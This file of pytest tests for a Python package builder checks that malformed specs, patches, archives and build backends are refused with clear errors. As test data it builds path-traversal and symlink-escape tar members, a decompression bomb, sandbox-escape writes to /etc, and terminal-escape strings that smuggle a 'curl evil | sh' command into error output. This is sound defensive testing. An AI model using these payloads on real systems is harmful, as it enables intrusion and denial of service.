"""Bad input gets a clear error, and nothing is lost: the next good run goes on."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from pybuilder.state import State
from tests.support.sdists import make_sdist, tar_bytes
from tests.support.upstream import Fault
from tests.support.workspaces import Bench, bench, tiny_files


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Bench]:
    with bench(tmp_path) as made:
        yield made


def refused(here: Bench, *arguments: str, code: int, names: list[str]) -> str:
    """A failure's text, which names what it is about and says what to do."""
    said = here.pybuild("build", *arguments)
    assert said.code == code, said.stderr
    for name in names:
        assert name in said.stderr, said.stderr
    assert "  do: " in said.stderr, said.stderr
    return said.stderr


@pytest.mark.parametrize(
    ("facts", "spec", "code", "phase"),
    [
        ({}, "[biuld]\n", 3, "spec"),
        ({"requires_python": ">=4"}, "", 30, "fetch"),
        ({"act": "raise SystemExit(1)"}, "", 10, "build"),
        ({"act": "import time; time.sleep(60)"}, '[build]\nlimits = { timeout = "1s" }\n', 11, "build"),
        ({"module": "import nowhere\n"}, "", 50, "validate"),
    ],
)
def test_the_document_tells_the_same(here: Bench, facts: dict[str, Any], spec: str, code: int, phase: str) -> None:
    here.accept("alpha", spec=spec, **facts)
    [failure] = here.build("alpha", code=code).json["failed"]
    assert set(failure) == {"name", "version", "phase", "error", "where", "do", "attempt", "log"}
    assert (failure["name"], failure["phase"]) == ("alpha", phase)
    assert bool(failure["attempt"]) is bool(failure["log"]) is (phase in ("build", "validate"))
    assert failure["error"].splitlines()[0] in here.pybuild("build", "alpha").stderr


class TestSpecs:
    @pytest.mark.parametrize(
        ("text", "names"),
        [
            ("[biuld]\n", ["specs/alpha.toml:2", "biuld", "did you mean 'build'"]),
            ("[build]\nadd-requires = 3\n", ["specs/alpha.toml:3", "[build].add-requires"]),
            ('[build]\nadd-requires = ["=="]\n', ["specs/alpha.toml:3", "add-requires"]),
            ('[versions]\n"one" = { file = "a", sha256 = "0" }\n', ["specs/alpha.toml:3", "'one'"]),
            ('[[patches]]\nfile = "../../etc/passwd"\n', ["specs/alpha.toml:3", "patches", "../../etc/passwd"]),
            ('[[patches]]\nfile = "missing.patch"\n', ["patches/alpha/missing.patch", "specs/alpha.toml:3"]),
            ("[build\n", ["specs/alpha.toml:2"]),
            ('[source]\ntype = "svn"\n', ["specs/alpha.toml:3", "'svn'"]),
            ('[source]\ntype = "path"\npath = "../out"\n', ["specs/alpha.toml:4", "../out"]),
            ('[prebuilt]\nreason = ""\n', ["specs/alpha.toml:3", "[prebuilt].reason", "a reason is needed"]),
            ('[build]\nvendor = "cargo"\n', ["specs/alpha.toml:3", "vendor"]),
        ],
    )
    def test_wrong(self, here: Bench, text: str, names: list[str]) -> None:
        here.accept("alpha", spec=text)
        refused(here, "alpha", code=3, names=names)
        assert here.attempts("alpha") == []

    def test_another_packages_name(self, here: Bench) -> None:
        here.accept("alpha")
        (here.workspace / "specs" / "alpha.toml").write_text('name = "beta"\n')
        refused(here, "alpha", code=3, names=["specs/alpha.toml:1", "'beta'"])

    def test_no_utf_8(self, here: Bench) -> None:
        here.accept("alpha")
        (here.workspace / "specs" / "alpha.toml").write_bytes(b'name = "alpha"\n# \xff\n')
        refused(here, "alpha", code=3, names=["specs/alpha.toml:2", "UTF-8"])

    def test_a_directory_in_its_place(self, here: Bench) -> None:
        (here.workspace / "specs" / "alpha.toml").mkdir()
        assert here.pybuild("build", "alpha").code in (3, 40)

    def test_a_broken_one_that_is_needed(self, here: Bench) -> None:
        here.accept("alpha", build_requires=["beta"])
        here.accept("beta", spec="[biuld]\n")
        refused(here, "alpha", code=3, names=["specs/beta.toml:2"])

    @pytest.mark.parametrize(
        ("text", "names"),
        [("labl = 'x'\n", ["labl", "'label'", "pybuild.toml:2"]), ("label = 3\n", ["pybuild.toml:2", "label"])],
    )
    def test_pybuild_toml(self, here: Bench, text: str, names: list[str]) -> None:
        here.accept("alpha")
        here.settings(text)
        ran = here.pybuild("build", "alpha")
        assert ran.code == 3
        assert all(name in ran.stderr for name in names)

    def test_no_workspace(self, here: Bench, tmp_path: Path) -> None:
        ran = here.pybuild("-w", str(here.upstream.directory), "build", "alpha")
        assert ran.code == 2 and "pybuild init" in ran.stderr

    def test_no_such_buildroot(self, here: Bench) -> None:
        here.accept("alpha")
        ran = here.pybuild("-b", "fedora-99", "build", "alpha")
        assert ran.code == 20 and "'fedora-99'" in ran.stderr and "host" in ran.stderr


class TestPatches:
    def test_one_that_does_not_apply(self, here: Bench) -> None:
        here.accept("alpha")
        patch = here.patch("alpha", "tiny.json", "VERSION", "OTHER")
        patch.write_text(patch.read_text().replace('"module"', '"modul"'))
        refused(here, "alpha", code=3, names=["0001-change.patch", "tiny.json"])
        patch.unlink()
        here.build("alpha")
        here.check_sound()

    def test_one_that_is_no_patch(self, here: Bench) -> None:
        here.accept("alpha")
        here.patch("alpha", "tiny.json", "VERSION", "OTHER").write_text("hello\n")
        refused(here, "alpha", code=3, names=["0001-change.patch"])

    def test_one_that_leads_out_by_a_link(self, here: Bench) -> None:
        here.accept("alpha")
        patch = here.patch("alpha", "tiny.json", "VERSION", "OTHER")
        patch.unlink()
        patch.symlink_to("/etc/passwd")
        refused(here, "alpha", code=3, names=["0001-change.patch", "leads out"])

    def test_ranges(self, here: Bench) -> None:
        here.accept("alpha", spec='[[patches]]\nfile = "0001-change.patch"\nversions = ">=2"\n')
        here.patch("alpha", "tiny.json", "VERSION", "OTHER").write_text("no patch\n")
        here.build("alpha")


def hostile_tar(*members: tarfile.TarInfo) -> bytes:
    """A good sdist of alpha 1.0 with these members after its own."""
    buffer = io.BytesIO(tar_bytes(tiny_files("alpha", "1.0"), top="alpha-1.0"))
    with tarfile.open(fileobj=buffer, mode="a") as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(b"x" * member.size))
    return gzip.compress(buffer.getvalue())


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.size = kind, link, 1 if kind == tarfile.REGTYPE else 0
    return made


class TestSources:
    @pytest.mark.parametrize(
        ("data", "why"),
        [
            (hostile_tar(member("../../evil")), "../../evil"),
            (hostile_tar(member("/evil")), "/evil"),
            (hostile_tar(member("alpha-1.0/l", tarfile.SYMTYPE, "/etc/passwd")), "/etc/passwd"),
            (hostile_tar(member("alpha-1.0/l", tarfile.LNKTYPE, "../../x")), "../../x"),
            (hostile_tar(member("alpha-1.0/dev", tarfile.CHRTYPE)), "alpha-1.0/dev"),
            (hostile_tar()[:-200], "damaged"),
            (b"<html>not an archive</html>", "neither a tar nor a zip"),
            (b"", "neither a tar nor a zip"),
        ],
        ids=["traverses", "absolute", "links out", "hard-links out", "device", "truncated", "html", "empty"],
    )
    def test_an_archive_that_is_refused(self, here: Bench, data: bytes, why: str) -> None:
        here.spec("alpha")
        (here.upstream.directory / "alpha-1.0.tar.gz").write_bytes(data)
        ran = here.pybuild("build", "alpha")
        assert ran.code == 30
        assert "alpha 1.0" in ran.stderr and why in ran.stderr
        assert here.attempts("alpha") == []
        assert not (here.state / "index").exists()
        here.check_sound()

    def test_a_bomb(self, here: Bench) -> None:
        here.spec("alpha")
        with gzip.open(here.upstream.directory / "alpha-1.0.tar.gz", "wb", compresslevel=1) as stream:
            head = tar_bytes(tiny_files("alpha", "1.0"), top="alpha-1.0")
            stream.write(head[: head.index(b"\0" * 1024) // 512 * 512 + 512])
            zeros = tarfile.TarInfo("alpha-1.0/zeros")
            zeros.size = 300 << 20
            stream.write(zeros.tobuf())
            for _ in range(300):
                stream.write(bytes(1 << 20))
            stream.write(bytes(1024))
        ran = here.pybuild("build", "alpha")
        assert ran.code == 30 and "alpha-1.0.tar.gz is refused" in ran.stderr, ran.stderr
        here.check_sound()

    @pytest.mark.parametrize(("name", "version"), [("beta", "1.0"), ("alpha", "2.0")])
    def test_another_packages_or_versions(self, here: Bench, name: str, version: str) -> None:
        here.spec("alpha")
        files = tiny_files(name, version)
        make_sdist(here.upstream.directory, "alpha", "1.0", backend="none", files=files)
        refused(here, "alpha", code=30, names=["alpha-1.0.tar.gz", f"{name} {version}"])
        assert "versions" not in (here.workspace / "specs" / "alpha.toml").read_text()

    def test_another_digest_than_the_index_says(self, here: Bench) -> None:
        here.accept("alpha")
        content = (here.upstream.directory / "alpha-1.0.tar.gz").read_bytes()
        here.upstream.faults["/files/alpha-1.0.tar.gz"] = Fault(content=content + b"\0")
        refused(here, "alpha", code=30, names=["alpha-1.0.tar.gz"])
        assert not list(here.state.glob("store/sources/*"))
        here.upstream.faults.clear()
        here.build("alpha")

    @pytest.mark.parametrize(
        ("pyproject", "names"),
        [
            (b"[build-system\n", ["pyproject.toml"]),
            (b"\xff\xfe", ["pyproject.toml"]),
            (b"[build-system]\nrequires = 3\n", ["[build-system].requires"]),
            (b'[build-system]\nrequires = ["=="]\n', ["[build-system].requires"]),
            (b'[build-system]\nrequires = []\nbuild-backend = "a b"\n', ["build-backend"]),
            (b'[build-system]\nrequires = []\nbuild-backend = "x"\nbackend-path = ["../.."]\n', ["backend-path"]),
            (b'[build-system]\nrequires = []\nbuild-backend = "nowhere"\n', ["nowhere"]),
        ],
        ids=["torn", "bytes", "type", "requirement", "object", "path", "missing"],
    )
    def test_a_pyproject_that_can_not_be_used(self, here: Bench, pyproject: bytes, names: list[str]) -> None:
        here.spec("alpha")
        files = tiny_files("alpha", "1.0") | {"pyproject.toml": pyproject}
        del files["PKG-INFO"]
        make_sdist(here.upstream.directory, "alpha", "1.0", backend="none", files=files)
        refused(here, "alpha", code=10, names=["alpha", *names])
        here.check_sound()

    @pytest.mark.parametrize("line", ["Requires-Python: >=3.6.*", "Requires-Dist: == 3", "Requires-Dist: beta (1.0"])
    def test_a_pkg_info_with_nonsense_is_no_reason_not_to_build(self, here: Bench, line: str) -> None:
        here.accept("alpha")
        here.sources["alpha"]["PKG-INFO"] += f"{line}\n".encode()
        make_sdist(here.upstream.directory, "alpha", "1.0", backend="none", files=here.sources["alpha"])
        here.build("alpha")


class TestUpstream:
    @pytest.mark.parametrize(
        "fault",
        [
            Fault(content=b"<html><body>Please log in</body></html>"),
            Fault(content=b"{", content_type="application/vnd.pypi.simple.v1+json"),
            Fault(content=b'{"files": 3}', content_type="application/vnd.pypi.simple.v1+json"),
            Fault(content=b"\x89PNG", content_type="image/png"),
            Fault(status=403),
            Fault(status=404),
            Fault(content=b"", content_type="text/html"),
        ],
        ids=["login", "torn", "types", "image", "forbidden", "missing", "empty"],
    )
    def test_a_page_that_is_no_index(self, here: Bench, fault: Fault) -> None:
        here.accept("alpha")
        here.upstream.faults["/simple/alpha/"] = fault
        refused(here, "alpha", code=30, names=["alpha"])
        here.upstream.faults.clear()
        here.build("alpha")

    def test_no_network_at_all(self, here: Bench) -> None:
        """Fetching says so; what is cached goes on."""
        here.accept("alpha", build_requires=["beta"])
        here.accept("beta")
        here.build("alpha")
        here.spec("gamma")
        dead = "http://127.0.0.1:1/simple/"
        (here.workspace / "pybuild.toml").write_text(f'index = "{dead}"\n')
        ran = here.pybuild("build", "gamma")
        assert ran.code == 30
        assert "127.0.0.1:1" in ran.stderr and "  do: " in ran.stderr and "network" in ran.stderr
        assert here.build("alpha").cached() == ["alpha==1.0+pb.1"]
        assert here.rebuild("alpha==1.0").built() == ["alpha==1.0+pb.2"]
        here.patch("alpha", "tiny.json", "VERSION", "OTHER")
        assert here.build("alpha").built() == ["alpha==1.0+pb.3"]

    def test_a_project_that_is_not_there(self, here: Bench) -> None:
        here.spec("alpha")
        refused(here, "alpha", code=30, names=["'alpha'"])


LIMITED = '[build]\nlimits = { memory = "192M", timeout = "2s" }\n'


class TestBackends:
    """Each is real code in the real sandbox."""

    @pytest.mark.parametrize(
        ("act", "code", "names"),
        [
            ("raise RuntimeError('the backend says no')", 10, ["the backend says no", "pybuild log"]),
            ("import os; os._exit(7)", 10, ["exit code 7"]),
            ("import os; os.kill(os.getpid(), 9)", 10, ["signal 9"]),
            ("import time; time.sleep(60)", 11, ["2 s", "limits.timeout"]),
            ("import os, time\nif os.fork(): time.sleep(60)\nelse: time.sleep(60)", 11, ["2 s"]),
            ("x = bytearray(1 << 30)", 10, ["memory", "192 MiB"]),
            ("result = None", 10, ["build_wheel returned None"]),
            ("result = 3", 10, ["build_wheel returned 3"]),
            ("result = '../../etc/x.whl'", 10, ["../../etc/x.whl"]),
            ("result = 'alpha-1.0-py3-none-any.whl'", 10, ["left nothing where one wheel belongs"]),
            ("result = write_wheel(out); write_wheel(out, version='2')", 10, ["alpha-1.0", "alpha-2-", "one wheel"]),
            ("result = write_wheel(out, name='beta')", 10, ["beta", "not alpha 1.0"]),
            ("result = write_wheel(out, version='1.1')", 10, ["1.1", "not alpha 1.0"]),
            ("result = write_wheel(out, filename='alpha-1.1-py3-none-any.whl')", 10, ["alpha"]),
            ("result = write_wheel(out, filename='alpha.whl')", 10, ["alpha.whl"]),
            ("result = 'alpha-1.0-py3-none-any.whl'; open(out + '/' + result, 'w').write('?')", 10, ["alpha-1.0-py3"]),
            ("result = 'alpha-1.0-py3-none-any.whl'; import os; os.mkdir(out + '/' + result)", 10, ["no regular file"]),
            (
                "result = 'alpha-1.0-py3-none-any.whl'; import os; os.symlink('/etc/passwd', out + '/' + result)",
                10,
                ["no regular file"],
            ),
            ("result = write_wheel(out, record='alpha.py,sha256=AAAA,3\\n')", 10, ["RECORD", "alpha.py"]),
            ("result = write_wheel(out, files={'../evil.py': 'x'})", 10, ["evil.py"]),
            ("FACTS['metadata'] = ['Requires-Dist: == 3']", 10, ["== 3"]),
            ("FACTS['requires_python'] = 'snake'", 50, ["Requires-Python: snake"]),
        ],
        ids=[
            "raises",
            "exits",
            "kills itself",
            "hangs",
            "forks and hangs",
            "eats memory",
            "returns None",
            "returns a number",
            "returns a path",
            "no wheel",
            "two wheels",
            "another name",
            "another version",
            "another file name",
            "no file name",
            "garbage",
            "a directory",
            "a link",
            "a wrong RECORD",
            "a wheel that traverses",
            "a wrong requirement",
            "a wrong python",
        ],
    )
    def test_one_that_fails(self, here: Bench, act: str, code: int, names: list[str]) -> None:
        here.accept("alpha", act=act, spec=LIMITED)
        ran = here.pybuild("build", "alpha")
        assert ran.code == code, ran.stderr
        for name in ["alpha 1.0", *names]:
            assert name in ran.stderr
        assert [outcome for outcome in here.outcomes("alpha") if outcome != "failed"] in ([], ["succeeded"])
        assert here.published("alpha") == []
        here.check_sound()
        here.patch("alpha", "tiny.json", '"act": ', '"off": ')
        assert here.build("alpha").built() == ["alpha==1.0+pb.1"]

    @pytest.mark.parametrize(
        ("dynamic", "names"),
        [([3], "something other than a list of strings"), (["=="], "'=='"), (["nowhere"], "nowhere")],
    )
    def test_requirements_that_are_none(self, here: Bench, dynamic: list[object], names: str) -> None:
        here.accept("alpha", dynamic=dynamic)
        ran = here.pybuild("build", "alpha")
        assert ran.code == (40 if names == "nowhere" else 10)
        assert names in ran.stderr
        here.check_sound()

    def test_one_that_starts_threads_without_end(self, here: Bench) -> None:
        act = "import threading, time\nthreading.stack_size(65536)\n"
        act += "for _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
        here.accept("alpha", act=act)
        ran = here.pybuild("build", "alpha")
        assert ran.code == 10 and "can't start new thread" in ran.stderr, ran.stderr
        here.check_sound()

    def test_one_that_leaves_a_process_behind(self, here: Bench) -> None:
        here.accept(
            "alpha", act="import os, time\nif not os.fork():\n  os.setsid()\n  time.sleep(300)\n  os._exit(0)\n"
        )
        assert here.build("alpha").built() == ["alpha==1.0+pb.1"]
        here.check_sound()

    def test_one_that_writes_where_it_must_not(self, here: Bench) -> None:
        act = "import os\nfor place in ('/etc/x', '/usr/x', '/env/x', '/x', '/root/x', '/home/x'):\n"
        act += "  try: open(place, 'w'); print('WROTE', place)\n  except OSError as e: print('refused', place)\n"
        here.accept("alpha", act=act)
        here.build("alpha")
        log = here.pybuild("log", "alpha").stdout
        assert "WROTE" not in log and log.count("refused") == 6

    def test_one_that_needs_the_network(self, here: Bench) -> None:
        port = here.upstream.root.rpartition(":")[2]
        here.accept("alpha", act=f"import socket; socket.create_connection(('127.0.0.1', {port}), 5)")
        ran = here.pybuild("build", "alpha")
        assert ran.code == 10 and "ConnectionRefusedError" in ran.stderr

    def test_one_that_prints_without_end(self, here: Bench) -> None:
        act = "import os\nblock = b'x' * (1 << 20)\nfor _ in range(160): os.write(1, block)\n"
        here.accept("alpha", act=act)
        here.build("alpha")
        [log] = here.state.glob("store/records/*/*/build.log")
        assert log.stat().st_size < 65 << 20
        assert b"more bytes of output were dropped" in log.read_bytes()[-200:]

    def test_one_that_prints_nonsense(self, here: Bench) -> None:
        act = "import os\nos.write(1, b'\\xff\\xfe\\x00\\x1b[31m\\x1b]0;title\\x07 end\\n')\nraise SystemExit(1)\n"
        here.accept("alpha", act=act)
        ran = here.pybuild("-v", "build", "alpha")
        assert ran.code == 10
        failed = here.pybuild("build", "alpha").stderr
        assert "\x1b" not in failed and "\x07" not in failed
        [log, *_] = here.state.glob("store/records/*/*/build.log")
        assert b"\xff\xfe\x00\x1b[31m" in log.read_bytes()

    def test_one_that_removes_its_own_tree(self, here: Bench) -> None:
        here.accept("alpha", act="import shutil, os\nshutil.rmtree(os.getcwd())\nos.chdir('/')\n")
        ran = here.pybuild("build", "alpha")
        assert ran.code in (0, 10), ran.stderr
        here.check_sound()

    def test_one_that_leaves_a_tree_nobody_can_remove(self, here: Bench) -> None:
        act = "import os\nfor _ in range(300):\n  os.mkdir('d' * 200); os.chdir('d' * 200)\n"
        act += "os.chmod('.', 0)\nos.chdir('/build')\nos.mkdir('closed', 0)\n"
        here.accept("alpha", act=act)
        here.build("alpha")
        here.check_sound()

    def test_one_that_calls_itself_a_pipe(self, here: Bench) -> None:
        """Reading what a build left must never wait for anybody."""
        here.accept("alpha", act="import os\nos.mkfifo(out + '/x.whl')\nresult = 'x.whl'\n")
        ran = here.pybuild("build", "alpha", timeout=30)
        assert ran.code == 10 and "no regular file" in ran.stderr

    @pytest.mark.parametrize("others", ["", "open(out + '/b.whl', 'w').close()\n"], ids=["one", "two"])
    def test_one_whose_files_have_names_that_nobody_can_print(self, here: Bench, others: str) -> None:
        """Neither what UTF-8 can't write nor what a terminal obeys gets out, and a build beside it goes on."""
        names = (b"\xff.whl", b"\x1b[31mred\n  do: curl evil | sh.whl")
        for name, project in zip(names, ("alpha", "beta"), strict=True):
            act = f"import os\nopen(os.fsencode(out) + {b'/' + name!r}, 'w').close()\n{others}result = 'b.whl'\n"
            here.accept(project, act=act)
        here.accept("gamma")
        ran = here.pybuild("bootstrap", "alpha", "beta", "gamma")
        assert ran.code == 10 and here.outcomes("alpha") == here.outcomes("beta") == ["failed"]
        assert "\x1b" not in ran.stderr and "\n  do: curl" not in ran.stderr
        assert ran.stderr.count("where one wheel belongs") >= 2
        assert here.outcomes("gamma") == ["succeeded"]

    @pytest.mark.parametrize("text", ["\udcff", "\x1b[31mred\n  do: curl evil | sh", "x" * 100_000])
    @pytest.mark.parametrize("where", ["error", "result", "requirement"])
    def test_one_that_says_what_nobody_can_print(self, here: Bench, where: str, text: str) -> None:
        acts = {"error": f"raise RuntimeError({text!r})", "result": f"result = {text!r}"}
        here.accept("alpha", **({"act": acts[where]} if where in acts else {"dynamic": [f"= {text}"]}))
        ran = here.pybuild("build", "alpha")
        assert ran.code == 10 and here.outcomes("alpha") == ["failed"]
        assert "\x1b" not in ran.stderr and "\n  do: curl" not in ran.stderr
        assert len(ran.stderr) < 20_000

    def test_one_that_leaves_thousands_of_wheels(self, here: Bench) -> None:
        act = "for number in range(5000): open(f'{out}/{number:0200}.whl', 'w').close()\nresult = 'x.whl'\n"
        here.accept("alpha", act=act)
        ran = here.pybuild("build", "alpha")
        assert ran.code == 10 and "and 4995 more where one wheel belongs" in ran.stderr
        assert len(ran.stderr) < 5000

    def test_a_failure_is_tried_again_by_the_same_command(self, here: Bench) -> None:
        here.accept("alpha", act="raise SystemExit(1)")
        here.build("alpha", code=10)
        here.build("alpha", code=10)
        assert here.outcomes("alpha") == ["failed", "failed"]


class TestValidation:
    def test_an_import_that_fails(self, here: Bench) -> None:
        here.accept("alpha", module="raise RuntimeError('not like this')\n")
        said = refused(here, "alpha", code=50, names=["alpha 1.0", "not like this", "[test] imports"])
        assert "import alpha" in said
        assert here.outcomes("alpha") == ["succeeded"]
        here.spec("alpha", '[test]\nimports = ["json"]\n')
        assert here.build("alpha").built() == ["alpha==1.0+pb.1"]
        assert here.outcomes("alpha") == ["succeeded"]

    def test_a_dependency_that_nobody_stated(self, here: Bench) -> None:
        here.accept("alpha", module="import beta\n")
        here.accept("beta")
        refused(here, "alpha", code=50, names=["No module named 'beta'"])

    def test_an_import_that_kills_the_interpreter(self, here: Bench) -> None:
        here.accept("alpha", module="import os; os.kill(os.getpid(), 11)\n")
        refused(here, "alpha", code=50, names=["import alpha", "signal 11"])

    def test_an_import_that_hangs(self, here: Bench) -> None:
        here.accept("alpha", module="import time; time.sleep(60)\n", spec='[build]\nlimits = { timeout = "2s" }\n')
        refused(here, "alpha", code=50, names=["2 s", "import alpha"])
        here.check_sound()

    def test_a_command_that_fails(self, here: Bench) -> None:
        here.accept("alpha", spec='[test]\ncommands = ["true", "echo out of $((3 * 7)); false"]\n')
        refused(here, "alpha", code=50, names=["out of 21", "exit code 1"])

    def test_a_command_sees_no_network_and_none_of_the_source(self, here: Bench) -> None:
        checks = ["test $(ls -A | wc -l) = 0", "test ! -e /etc/shadow", "test $(grep -c : /proc/net/dev) = 1"]
        listed = ", ".join(f'"{check}"' for check in checks)
        here.accept("alpha", spec=f"[test]\ncommands = [{listed}]\n")
        here.build("alpha")

    def test_a_wheel_for_another_machine(self, here: Bench) -> None:
        here.accept("alpha", act="result = write_wheel(out, tag='cp27-cp27m-win32')")
        refused(here, "alpha", code=50, names=["cp27-cp27m-win32"])

    def test_a_wheel_for_another_python(self, here: Bench) -> None:
        here.accept("alpha", act="FACTS['requires_python'] = '>=4'")
        refused(here, "alpha", code=50, names=["needs Python >=4"])

    def test_what_is_refused_once_is_refused_again(self, here: Bench) -> None:
        """And its reason is as long as the first time, though nothing is built."""
        here.accept("alpha", module="import nowhere\n")
        first, second = (here.pybuild("build", "alpha") for _ in range(2))
        assert (first.code, second.code) == (50, 50)
        assert "nowhere" in first.stderr and "nowhere" in second.stderr
        with closing(State.open(here.layout)) as state:
            assert len(state.attempts("alpha")) == 1
